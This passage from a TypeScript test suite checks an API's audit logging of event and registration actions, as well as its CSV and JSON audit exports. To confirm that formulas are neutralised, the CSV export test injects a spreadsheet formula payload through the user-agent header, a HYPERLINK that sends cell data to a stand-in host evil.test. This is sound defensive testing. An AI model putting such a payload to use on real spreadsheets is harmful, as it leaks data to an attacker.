    // -- events (issue 5): organiser changes as the trainer; public steps as anonymous WITHOUT the
    // visitor's address or user agent (the log is never purged, registrants' data is: retention),
    // in the event's organisation, with registration ids and no personal data
    const anonymous = { actor_id: null, actor_label: 'anonymous', organisation_id: org, ip: null, user_agent: null };
    s = await send('POST /api/v1/events', 201, { cookie: trainerCookie, payload: webinar('2026-04-01T12:00:00Z', '2026-03-01T00:00:00Z', { capacity: 1 }) });
    const ev = s.res.json() as { id: string; slug: string };
    expect(s.events).toEqual([expect.objectContaining({ ...trainerActor, action: 'event.create', target_type: 'event', target_id: ev.id, ip: s.ip, user_agent: s.ua })]);
    s = await send('PATCH /api/v1/events/:id', 200, { cookie: trainerCookie, url: `/api/v1/events/${ev.id}`, payload: { capacity: 2 } });
    expect(s.events).toEqual([expect.objectContaining({ ...trainerActor, action: 'event.update', target_id: ev.id, details: { changes: { capacity: { from: 1, to: 2 } } } })]);
    await send('PATCH /api/v1/events/:id', 200, { cookie: trainerCookie, url: `/api/v1/events/${ev.id}`, payload: { capacity: 1 } });
    s = await send('POST /api/v1/events/:id/publish', 200, { cookie: trainerCookie, url: `/api/v1/events/${ev.id}/publish` });
    expect(s.events).toEqual([expect.objectContaining({ ...trainerActor, action: 'event.publish', target_id: ev.id })]);
    const pub = (action: string) => `/api/v1/public/events/${ev.slug}/${action}`;
    const regOf = async (email: string) => (await ctx.deps.db.query<{ id: string }>('SELECT id FROM event_registrations WHERE email = $1', [email])).rows[0]!.id;
    const token = (id: string, purpose: 'verify' | 'manage') => ctx.deps.db.transaction((tx) => mintToken(ctx.deps, tx, id, purpose));
    s = await send('POST /api/v1/public/events/:slug/registrations', 202, { url: pub('registrations'), payload: registrant('rita@police.example.org') });
    const rita = await regOf('rita@police.example.org');
    expect(s.all).toEqual([expect.objectContaining({ ...anonymous, action: 'event.registration.create', target_type: 'event_registration', target_id: rita, details: { eventId: ev.id, source: 'public', status: 'pending_email' } })]);
    expect(s.events).toEqual([]);
    s = await send('POST /api/v1/public/events/:slug/verify', 200, { url: pub('verify'), payload: { token: await token(rita, 'verify') } });
    expect(s.all).toEqual([expect.objectContaining({ ...anonymous, action: 'event.registration.verify', target_id: rita, details: { eventId: ev.id, from: 'pending_email', to: 'confirmed' } })]);
    const ritaLink = await token(rita, 'manage');
    s = await send('POST /api/v1/public/events/:slug/registration', 200, { url: pub('registration'), payload: { token: ritaLink } });
    expect(s.all).toEqual([]); // reading where one stands changes nothing
    const manual = async (email: string) => {
      const r = await send('POST /api/v1/events/:id/registrations', 201, { cookie: trainerCookie, url: `/api/v1/events/${ev.id}/registrations`, payload: registrant(email) });
      expect(r.events).toEqual([expect.objectContaining({ ...trainerActor, action: 'event.registration.add', target_id: r.res.json().id, details: { eventId: ev.id, from: 'pending_approval', to: 'waiting' } })]);
      return r.res.json().id as string;
    };
    const [max, nina] = [await manual('max@police.example.org'), await manual('nina@police.example.org')];
    s = await send('POST /api/v1/public/events/:slug/cancel', 200, { url: pub('cancel'), payload: { token: ritaLink } });
    expect(s.all.map((e) => [e.action, e.target_id, e.actor_label, e.ip, e.user_agent])).toEqual([['event.registration.cancel', rita, 'anonymous', null, null], ['event.registration.offer', max, 'anonymous', null, null]]);
    s = await send('POST /api/v1/public/events/:slug/offer/accept', 200, { url: pub('offer/accept'), payload: { token: await token(max, 'manage') } });
    expect(s.all).toEqual([expect.objectContaining({ ...anonymous, action: 'event.registration.accept_offer', target_id: max, details: { eventId: ev.id, from: 'offered', to: 'confirmed' } })]);
    s = await send('POST /api/v1/events/:id/registrations/:registrationId/reject', 200, { cookie: trainerCookie, url: `/api/v1/events/${ev.id}/registrations/${max}/reject`, payload: { reason: 'Duplicate of another registration' } });
    expect(s.events.map((e) => [e.action, e.target_id, e.actor_label])).toEqual([['event.registration.reject', max, trainer.email], ['event.registration.offer', nina, trainer.email]]);
    expect(s.events[0]!.details).toEqual({ eventId: ev.id, from: 'confirmed', to: 'rejected', reasonGiven: true });
    s = await send('POST /api/v1/public/events/:slug/offer/decline', 200, { url: pub('offer/decline'), payload: { token: await token(nina, 'manage') } });
    expect(s.all).toEqual([expect.objectContaining({ ...anonymous, action: 'event.registration.decline_offer', target_id: nina, details: { eventId: ev.id, from: 'offered', to: 'cancelled', reason: 'offer_declined' } })]);
    await send('PATCH /api/v1/events/:id', 200, { cookie: trainerCookie, url: `/api/v1/events/${ev.id}`, payload: { requiresApproval: true } });
    await send('POST /api/v1/public/events/:slug/registrations', 202, { url: pub('registrations'), payload: registrant('otto@police.example.org') });
    const otto = await regOf('otto@police.example.org');
    await send('POST /api/v1/public/events/:slug/verify', 200, { url: pub('verify'), payload: { token: await token(otto, 'verify') } });
    s = await send('POST /api/v1/events/:id/registrations/:registrationId/approve', 200, { cookie: trainerCookie, url: `/api/v1/events/${ev.id}/registrations/${otto}/approve` });
    expect(s.events).toEqual([expect.objectContaining({ ...trainerActor, action: 'event.registration.approve', target_id: otto, details: { eventId: ev.id, from: 'pending_approval', to: 'confirmed' } })]);
    const confirmation = (await ctx.deps.db.query<{ id: string }>("SELECT id FROM event_messages WHERE registration_id = $1 AND kind = 'confirmation'", [otto])).rows[0]!.id;
    s = await send('POST /api/v1/events/:id/registrations/:registrationId/messages/:messageId/resend', 201, { cookie: trainerCookie, url: `/api/v1/events/${ev.id}/registrations/${otto}/messages/${confirmation}/resend` });
    expect(s.events).toEqual([expect.objectContaining({ ...trainerActor, action: 'event.message.resend', target_id: otto, details: expect.objectContaining({ eventId: ev.id, kind: 'confirmation', originalMessageId: confirmation }) })]);
    s = await send('POST /api/v1/events/:id/attendance', 200, { cookie: trainerCookie, url: `/api/v1/events/${ev.id}/attendance`, payload: { csv: 'email\r\notto@police.example.org\r\n' } });
    expect(s.events).toEqual([expect.objectContaining({ ...trainerActor, action: 'event.attendance.import', target_id: ev.id, details: { marked: 1, alreadyAttended: 0, unknown: 0, notConfirmed: 0, invalid: 0 } })]);
    s = await send('POST /api/v1/events/:id/remind', 200, { cookie: trainerCookie, url: `/api/v1/events/${ev.id}/remind`, payload: {} });
    expect(s.events).toEqual([]); // nothing due a month ahead: nothing queued, nothing recorded
    s = await send('POST /api/v1/events/:id/cancel', 200, { cookie: trainerCookie, url: `/api/v1/events/${ev.id}/cancel`, payload: { notify: false } });
    expect(s.events).toEqual([expect.objectContaining({ ...trainerActor, action: 'event.cancel', target_id: ev.id, details: { notified: 0 } })]);
    const draftEvent = (await ctx.app.inject({ method: 'POST', url: '/api/v1/events', headers: { cookie: trainerCookie }, payload: webinar('2026-04-01T12:00:00Z', '2026-03-01T00:00:00Z') })).json() as { id: string };
    s = await send('DELETE /api/v1/events/:id', 200, { cookie: trainerCookie, url: `/api/v1/events/${draftEvent.id}` });
    expect(s.events).toEqual([expect.objectContaining({ ...trainerActor, action: 'event.delete', target_id: draftEvent.id })]);
    // No personal data of registrants in any of these events, nor any visitor's address.
    expect(JSON.stringify((await rows(ctx, "action LIKE 'event.%'")).map((e) => e.details))).not.toMatch(/@|Participant|Ruritania/);
    expect((await rows(ctx, "action LIKE 'event.registration.%' AND actor_label = 'anonymous' AND (ip IS NOT NULL OR user_agent IS NOT NULL)"))).toEqual([]);

    // Every declared mutating route was exercised above.
    const mutating = apiRoutes(ctx.deps).filter((r) => r.method !== 'GET').map((r) => `${r.method} ${r.url}`);
    expect(mutating.length).toBeGreaterThanOrEqual(20);
    expect(mutating.filter((r) => !exercised.has(r))).toEqual([]);
  });

  it('a refused request (bad input, no permission) records nothing', async () => {
    const before = (await rows(ctx)).length;
    await send('POST /api/v1/users', 400, { cookie: adminCookie, payload: { email: 'not-an-address', displayName: 'X', roles: ['admin'] } });
    await send('POST /api/v1/users', 403, { cookie: auditorCookie, payload: { email: 'x@agency.test', displayName: 'X', roles: ['admin'] } });
    expect((await rows(ctx)).length).toBe(before);
  });

  // ---------------------------------------------------------------------------- export

  /** A CSV parser for the export: quoted cells with doubled quotes, CRLF line ends. */
  function parseCsv(text: string): string[][] {
    const out: string[][] = [];
    let row: string[] = [];
    let cell = '';
    let quoted = false;
    for (let i = 0; i < text.length; i++) {
      const c = text[i]!;
      if (quoted) {
        if (c === '"' && text[i + 1] === '"') {
          cell += '"';
          i++;
        } else if (c === '"') quoted = false;
        else cell += c;
      } else if (c === '"') quoted = true;
      else if (c === ',') {
        row.push(cell);
        cell = '';
      } else if (c === '\r' && text[i + 1] === '\n') {
        row.push(cell);
        out.push(row);
        row = [];
        cell = '';
        i++;
      } else cell += c;
    }
    if (cell || row.length) throw new Error('CSV does not end with CRLF');
    return out;
  }

  it('exports CSV with a header row, neutralised formulas, and records the export', async () => {
    // A client-chosen value that a spreadsheet would run as a formula.
    const formula = '=HYPERLINK("http://evil.test/?"&A1,"click")';
    for (const ua of [formula, '+1+1', '-2+3', '@SUM(A1:A9)'])
      await ctx.app.inject({ method: 'POST', url: '/api/v1/auth/login', headers: { 'user-agent': ua }, payload: { email: admin.email, password: 'wrong password', acknowledgeBanner: true } });
    const expectedRows = (await rows(ctx, 'organisation_id = $1', [org])).length;

    const res = await ctx.app.inject({ method: 'GET', url: '/api/v1/audit/export?format=csv', headers: { cookie: auditorCookie } });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="liaison-audit-[0-9T-]+Z\.csv"$/);
    const [header, ...data] = parseCsv(res.body);
    expect(header).toEqual(['seq', 'occurredAt', 'actorId', 'actorLabel', 'organisationId', 'action', 'targetType', 'targetId', 'outcome', 'ip', 'userAgent', 'justification', 'details', 'hash']);
    expect(data.length).toBe(expectedRows);
    expect(data.every((r) => r.length === header!.length)).toBe(true);
    const seqs = data.map((r) => Number(r[0]));
    expect(seqs).toEqual([...seqs].sort((a, b) => a - b)); // oldest first
    const uaColumn = header!.indexOf('userAgent');
    const uas = data.map((r) => r[uaColumn]);
    expect(uas).toContain(`'${formula}`);
    expect(uas).toEqual(expect.arrayContaining(["'+1+1", "'-2+3", "'@SUM(A1:A9)"]));
    // No cell anywhere starts like a formula.
    expect(data.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    // The raw text quotes every cell.
    expect(res.body.split('\r\n')[1]).toMatch(/^"\d+","/);

    const last = (await rows(ctx)).at(-1)!;
    expect(last).toMatchObject({ action: 'audit.export', organisation_id: org, outcome: 'success', details: { format: 'csv', count: expectedRows, filter: {} } });
  });

  it('exports JSON (oldest first, the event schema, filters applied) and records the export', async () => {
    const res = await ctx.app.inject({ method: 'GET', url: '/api/v1/audit/export?format=json&action=auth.login&outcome=failure', headers: { cookie: auditorCookie } });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/json; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="liaison-audit-[0-9T-]+Z\.json"$/);
    const events = (res.json() as unknown[]).map((e) => auditEventSchema.strict().parse(e));
    const expected = await rows(ctx, "organisation_id = $1 AND action = 'auth.login' AND outcome = 'failure'", [org]);
    expect(events.map((e) => e.seq)).toEqual(expected.map((e) => e.seq));
    expect(events.length).toBeGreaterThanOrEqual(5);
    const last = (await rows(ctx)).at(-1)!;
    expect(last).toMatchObject({ action: 'audit.export', details: { format: 'json', count: events.length, filter: { action: 'auth.login', outcome: 'failure' } } });
    // The log with its exports still verifies.
    expect((await verifyAudit(ctx.deps)).ok).toBe(true);
  });
});
